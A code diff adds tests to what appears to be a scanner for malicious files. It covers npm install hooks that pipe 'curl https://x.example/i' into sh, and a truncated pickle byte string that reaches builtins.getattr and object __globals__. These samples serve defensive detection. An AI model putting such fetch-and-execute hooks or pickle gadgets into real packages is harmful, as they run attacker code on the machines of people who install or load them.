@@ -170,3 +170,24 @@ def test_names_that_jsonpickle_imports_are_judged(document, verdict):
 )
 def test_cells_that_start_programs_are_hostile(cell, verdict):
     assert _scan("data.csv", f"a,b\n{cell},1\n") is verdict
+
+
+@each(
+    ("hook", "command", "verdict"),
+    [
+        ("postinstall", "node -e \"exec('curl -s https://x.example/i|sh')\"", Verdict.MALICIOUS),
+        ("preinstall", "curl http://x.example/i | sh", Verdict.MALICIOUS),
+        ("test", "curl -s https://x.example/i | sh", Verdict.CLEAN),
+        ("postinstall", "node install.js", Verdict.CLEAN),
+    ],
+)
+def test_what_installing_a_package_of_npm_runs_is_judged(hook, command, verdict):
+    assert _scan("package/package.json", json.dumps({"scripts": {hook: command}})) is verdict
+
+
+@each("name", ["a.p7", "a.bin", "a.pkl"])
+def test_a_pickle_that_breaks_after_a_hostile_call_is_found_under_any_name(name):
+    walk = b"(ccollections\nOrderedDict\n(tRcbuiltins\ngetattr\n(cstring\nFormatter\n(tR"
+    attributes = b"X\x1e\0\0\0__class__.__init__.__globals__tRt"
+    broken = b"\x80\x02" + walk + attributes + b"\xff"
+    assert scan_source(name, BytesSource(broken)).verdict is Verdict.MALICIOUS
